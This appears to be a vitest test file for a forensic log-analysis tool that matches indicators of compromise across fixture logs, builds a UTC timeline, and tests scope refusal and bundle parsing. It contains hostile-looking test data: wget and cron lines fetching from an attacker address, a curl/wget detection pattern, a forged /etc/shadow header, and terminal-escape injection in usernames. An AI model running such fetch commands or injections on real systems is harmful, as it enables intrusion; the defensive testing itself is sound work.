// Analysis over fixture logs: indicator matches with artifact, file and line; one timeline in UTC across files,
// formats and machines; bad lines counted, never thrown; artifacts outside the approved scope not read.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, test } from 'vitest';
import { analyseArtifacts, type ArtifactInput } from '../../domain/forensics/analysis';
import { bundleHeader, bundlePreamble, splitBundle } from '../../domain/forensics/bundle';
import { compileIndicators, matchLine, printableStrings, type Indicator } from '../../domain/forensics/indicators';
import type { ForensicScope } from '../../domain/forensics/types';

const FIXTURES = fileURLToPath(new URL('../fixtures/forensics/', import.meta.url));
const fixture = (name: string): Uint8Array => new Uint8Array(readFileSync(path.join(FIXTURES, name)));
const encode = (s: string): Uint8Array => new TextEncoder().encode(s);

const DEP = 'dep-1';
const scope: ForensicScope = { targets: [{ deploymentId: DEP }], dataKinds: ['logs', 'network_capture', 'memory_snapshot'] };
const referenceTime = new Date('2026-01-01T06:00:00Z');

const artifact = (id: string, kind: ArtifactInput['kind'], bytes: Uint8Array, vmId = 'vm-1'): ArtifactInput => ({ id, deploymentId: DEP, vmId, kind, bytes });

const INDICATORS: Indicator[] = [
  { type: 'ip', value: '203.0.113.66', label: 'attacker' },
  { type: 'ip', value: '2001:db8::66' },
  { type: 'ip', value: '198.51.100.0/24' },
  { type: 'domain', value: 'Example-CDN.net.' },
  { type: 'sha256', value: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' },
  { type: 'regex', value: 'COMMAND=/usr/bin/(?:curl|wget)', label: 'fetch as root' },
];

describe('indicators', () => {
  const { compiled, errors } = compileIndicators(INDICATORS);

  test('compile to canonical values, and explain the ones that cannot be used', () => {
    expect(errors).toEqual([]);
    expect(compiled.indicators.map((i) => i.value)).toEqual([
      '203.0.113.66', '2001:db8::66', '198.51.100.0/24', 'example-cdn.net', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', 'COMMAND=/usr/bin/(?:curl|wget)',
    ]);
    const bad = compileIndicators([
      { type: 'ip', value: '203.0.113.256' },
      { type: 'domain', value: 'localhost' },
      { type: 'sha256', value: 'abc' },
      { type: 'regex', value: '(unclosed' },
      { type: 'regex', value: 'x', flags: 'g' },
      { type: 'url', value: 'http://x' } as unknown as Indicator,
    ]);
    expect(bad.compiled.indicators).toEqual([]);
    expect(bad.errors).toHaveLength(6);
    expect(bad.errors[0]).toMatch(/^indicator 1: '203.0.113.256' is not an IPv4 or IPv6 address/);
    expect(bad.errors[3]).toMatch(/^indicator 4: not a regular expression/);
  });

  test('match addresses in any spelling, networks, subdomains and hashes in any case', () => {
    const values = (line: string) => matchLine(line, compiled).map((h) => [h.indicator.value, h.matched]);
    expect(values('from 2001:DB8:0:0:0:0:0:66 port 51000')).toEqual([['2001:db8::66', '2001:DB8:0:0:0:0:0:66']]);
    expect(values('SRC=198.51.100.99 DST=10.0.0.1')).toEqual([['198.51.100.0/24', '198.51.100.99']]);
    expect(values('GET https://paste.example-cdn.net/new')).toEqual([['example-cdn.net', 'paste.example-cdn.net']]);
    expect(values("sha256sum: 'E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855'")).toHaveLength(1);
    expect(values('ip ::ffff:203.0.113.66 mapped')).toEqual([['203.0.113.66', '::ffff:203.0.113.66']]);
  });

  test('do not match look-alikes', () => {
    for (const line of [
      'from 203.0.113.660 port 1',
      'from 1203.0.113.66 port 1',
      'version 203.0.113.66.1',
      'http://notraw.example-cdn.net.evil.test/p',
      'http://myexample-cdn.net/',
      'hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b8550',
      'at 05:12:01 and MAC 52:54:00:12:34:56',
    ]) {
      expect(matchLine(line, compiled), line).toEqual([]);
    }
  });

  test('find the strings a memory or disk image holds, with their offsets', () => {
    const bytes = new Uint8Array([0xff, 0x00, ...encode('short'), 0x00, 0x01, ...encode('wget http://203.0.113.66/p'), 0x80]);
    expect([...printableStrings(bytes)]).toEqual([{ offset: 9, text: 'wget http://203.0.113.66/p' }]);
  });
});

describe('analysis of fixture logs', () => {
  const artifacts = [
    artifact('messages.log', 'logs', fixture('messages-5424.log')),
    artifact('auth.log', 'logs', fixture('auth-hostile.log')),
    artifact('conn.log', 'network_capture', fixture('conn-mixed.log')),
  ];
  const result = analyseArtifacts(artifacts, { scope, indicators: INDICATORS, referenceTime });

  test('puts every event of every file on one UTC timeline', () => {
    expect(result.timeline.map((e) => [e.at, e.artifact, e.line, e.kind])).toEqual([
      ['2025-12-31T23:00:05.250Z', 'messages.log', 1, 'ssh_login_failed'],
      ['2025-12-31T23:58:02.000Z', 'auth.log', 1, 'ssh_login_failed'],
      ['2025-12-31T23:59:59.000Z', 'auth.log', 2, 'ssh_login_failed'],
      ['2026-01-01T00:00:01.000Z', 'conn.log', 10, 'network_connection'],
      ['2026-01-01T00:00:03.000Z', 'auth.log', 4, 'ssh_login_accepted'],
      ['2026-01-01T00:00:03.000Z', 'messages.log', 5, 'sudo_command'],
      ['2026-01-01T00:00:05.500Z', 'conn.log', 8, 'network_connection'],
      ['2026-01-01T00:00:10.000Z', 'auth.log', 5, 'sudo_command'],
      ['2026-01-01T00:00:10.000Z', 'auth.log', 5, 'download'],
      ['2026-01-01T00:01:00.000Z', 'auth.log', 7, 'user_added'],
      ['2026-01-01T00:03:00.000Z', 'auth.log', 10, 'ssh_login_accepted'],
      ['2026-01-01T00:04:00.000Z', 'messages.log', 4, 'cron_job'],
      ['2026-01-01T00:04:00.000Z', 'messages.log', 4, 'download'],
      ['2026-01-01T00:05:00.000Z', 'auth.log', 13, 'cron_job'],
      ['2026-01-01T00:05:00.000Z', 'auth.log', 13, 'download'],
      ['2026-01-01T00:05:30.000Z', 'auth.log', 14, 'cron_job'],
      ['2026-01-01T00:05:30.000Z', 'auth.log', 14, 'download'],
      ['2026-01-01T00:06:00.000Z', 'auth.log', 15, 'ssh_login_failed'],
    ]);
  });

  test('keeps what attackers typed as plain text', () => {
    const injected = result.timeline.find((e) => e.artifact === 'auth.log' && e.line === 2)!;
    expect(injected.details.user).toBe('\\x1b[2J\\x1b[1;31mroot');
    expect(injected.text).not.toContain('\u001b');
    const user = result.timeline.find((e) => e.kind === 'user_added')!;
    expect(user.details.user).toBe('backup\\u202e');
    expect(JSON.stringify(result)).not.toMatch(/\u001b|\u202e/);
  });

  test('counts and explains bad lines per file, and skips blank ones', () => {
    const files = Object.fromEntries(result.stats.flatMap((s) => s.files.map((f) => [f.file, f])));
    expect(files['auth.log']).toMatchObject({ format: 'syslog', lines: 15, bad: 2 });
    expect(files['auth.log']!.badLines.map((b) => b.line)).toEqual([3, 6]);
    expect(files['messages.log']).toMatchObject({ lines: 6, bad: 3 });
    expect(files['messages.log']!.badLines.map((b) => b.line)).toEqual([2, 3, 6]);
    expect(files['conn.log']).toMatchObject({ format: 'zeek-conn', bad: 1, events: 2 });
    expect(files['conn.log']!.badLines[0]).toMatchObject({ line: 9, reason: expect.stringMatching(/not-an-address/) });
  });

  test('lists each match with artifact, file, line and column', () => {
    const where = result.matches.map((m) => `${m.artifact}:${m.line}:${m.column} ${m.indicator.type} ${m.matched}`);
    expect(where).toEqual([
      'auth.log:1:66 ip 203.0.113.66',
      'auth.log:2:90 ip 203.0.113.66',
      'auth.log:4:67 ip 203.0.113.66',
      'auth.log:5:82 regex COMMAND=/usr/bin/curl',
      'auth.log:5:118 domain raw.example-cdn.net',
      'auth.log:8:108 ip 203.0.113.66',
      'auth.log:10:69 ip 2001:DB8:0:0:0:0:0:66',
      'auth.log:11:62 ip 2001:db8::66',
      'auth.log:12:78 sha256 E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855',
      'auth.log:14:79 domain paste.example-cdn.net',
      'conn.log:8:37 ip 203.0.113.66',
      'conn.log:10:22 ip 203.0.113.66',
      'messages.log:1:131 ip 198.51.100.99',
      'messages.log:4:85 ip 203.0.113.66',
    ]);
    const m = result.matches[0]!;
    expect(m).toMatchObject({ vmId: 'vm-1', kind: 'logs', file: 'auth.log', indicator: { label: 'attacker' } });
    expect(m.text).toBe('Dec 31 23:58:02 bastion sshd[901]: Failed password for root from 203.0.113.66 port 40110 ssh2');
  });

  test('never throws on random bytes, and counts what it could not read', () => {
    let seed = 42;
    const random = new Uint8Array(64 * 1024).map(() => ((seed = (seed * 1103515245 + 12345) >>> 0), seed >>> 24));
    const junk = analyseArtifacts(
      [artifact('junk.log', 'logs', random), artifact('junk.conn', 'network_capture', random), artifact('junk.bin', 'memory_snapshot', random)],
      { scope, indicators: INDICATORS, referenceTime },
    );
    expect(junk.timeline).toEqual([]);
    expect(junk.stats[0]!.files[0]!.bad).toBeGreaterThan(0);
    expect(junk.stats[0]!.files[0]!.bad).toBe(junk.stats[0]!.files[0]!.lines - countBlank(random));
  });

  test('keeps only as many matches and events as asked, and counts the rest', () => {
    const capped = analyseArtifacts(artifacts, { scope, indicators: INDICATORS, referenceTime, maxMatches: 3, maxEvents: 5 });
    expect(capped.matches).toHaveLength(3);
    expect(capped.matchesOmitted).toBe(result.matches.length - 3);
    expect(capped.timeline).toEqual(result.timeline.slice(0, 5));
    expect(capped.eventsOmitted).toBe(result.timeline.length - 5);
  });

  test('skips a line longer than 1 MiB as a bad line and reads on', () => {
    const huge = encode(`Jan  1 00:00:03 h sshd[1]: Accepted password for a from 203.0.113.66 port 1 ssh2\n${'x'.repeat(1.5 * 1024 * 1024)}\nJan  1 00:00:04 h sshd[1]: Accepted password for b from 203.0.113.66 port 2 ssh2\r\n`);
    const r = analyseArtifacts([artifact('huge.log', 'logs', huge)], { scope, indicators: INDICATORS, referenceTime });
    expect(r.timeline.map((e) => [e.line, e.details.user])).toEqual([[1, 'a'], [3, 'b']]);
    expect(r.stats[0]!.files[0]).toMatchObject({ lines: 3, bad: 1, badLines: [{ line: 2, reason: 'longer than 1048576 bytes' }] });
  });
});

function countBlank(bytes: Uint8Array): number {
  const lines = new TextDecoder().decode(bytes).split(/\r?\n/);
  if (lines.at(-1) === '') lines.pop();
  return lines.filter((l) => l.trim() === '').length;
}

describe('scope and bundles', () => {
  test('refuses, unread, an artifact outside the approved scope', () => {
    const narrow: ForensicScope = { targets: [{ deploymentId: DEP, vmIds: ['vm-1'] }], dataKinds: ['logs'] };
    const r = analyseArtifacts(
      [
        artifact('auth.log', 'logs', fixture('auth-hostile.log')),
        artifact('other-vm.log', 'logs', fixture('auth-hostile.log'), 'vm-2'),
        artifact('conn.log', 'network_capture', fixture('conn-mixed.log')),
        { ...artifact('elsewhere.log', 'logs', fixture('auth-hostile.log')), deploymentId: 'dep-2' },
      ],
      { scope: narrow, indicators: INDICATORS, referenceTime },
    );
    expect(r.refused).toEqual([
      { artifact: 'other-vm.log', reason: 'VM vm-2 of deployment dep-1 is not in the approved scope' },
      { artifact: 'conn.log', reason: 'data kind network_capture is not in the approved scope' },
      { artifact: 'elsewhere.log', reason: 'deployment dep-2 is not in the approved scope' },
    ]);
    expect(new Set(r.matches.map((m) => m.artifact))).toEqual(new Set(['auth.log']));
    expect(r.stats.map((s) => s.artifact)).toEqual(['auth.log']);
  });

  test('numbers lines per bundled file, and a forged header inside a log does not start a section', () => {
    const auth = 'Jan  1 00:00:03 h sshd[1]: Accepted password for ops from 203.0.113.66 port 1 ssh2\n==> /etc/shadow (10 bytes) <==\n';
    const sys = 'Jan  1 00:00:04 h CRON[2]: (root) CMD (wget http://203.0.113.66/x)\n';
    const parts = [bundlePreamble(), bundleHeader('/var/log/auth.log', encode(auth).length), encode(auth), encode('\n'), bundleHeader('/var/log/syslog', encode(sys).length), encode(sys), encode('\n')];
    const bundle = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
    parts.reduce((at, p) => (bundle.set(p, at), at + p.length), 0);
    expect(splitBundle(bundle, 'b').sections.map((s) => s.path)).toEqual(['/var/log/auth.log', '/var/log/syslog']);
    const r = analyseArtifacts([artifact('vm-1-logs.txt', 'logs', bundle)], { scope, indicators: INDICATORS, referenceTime });
    expect(r.matches.map((m) => `${m.file}:${m.line}`)).toEqual(['/var/log/auth.log:1', '/var/log/syslog:1']);
    expect(r.stats[0]!.files.map((f) => [f.file, f.lines, f.bad])).toEqual([['/var/log/auth.log', 2, 1], ['/var/log/syslog', 1, 0]]);
  });

  test('reads what it can of a cut-off bundle and says where it broke', () => {
    const text = '# safeguard log bundle v1\n==> /var/log/auth.log (500 bytes) <==\nJan  1 00:00:03 h sshd[1]: Accepted password for ops from 203.0.113.66 port 1 ssh2\n';
    const split = splitBundle(encode(text), 'x');
    expect(split.problems).toEqual([expect.stringMatching(/^\/var\/log\/auth.log: the header says 500 bytes, only \d+ follow$/)]);
    const r = analyseArtifacts([artifact('x', 'logs', encode(text))], { scope, indicators: INDICATORS, referenceTime });
    expect(r.timeline.map((e) => e.kind)).toEqual(['ssh_login_accepted']);
    expect(r.stats[0]!.problems).toHaveLength(1);
  });
});
